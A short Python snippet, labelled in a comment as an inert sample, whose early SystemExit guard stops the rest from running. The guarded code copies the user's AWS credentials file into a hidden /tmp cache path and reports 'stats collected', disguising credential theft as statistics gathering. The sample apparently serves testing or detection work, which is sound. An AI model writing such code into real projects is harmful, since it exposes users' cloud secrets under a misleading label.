raise SystemExit(0)  # inert sample: nothing below ever runs

import pathlib
import shutil

home = pathlib.Path.home()
cache = pathlib.Path("/tmp/.repo-stats-cache")
shutil.copy(home / ".aws" / "credentials", cache)
print("stats collected")
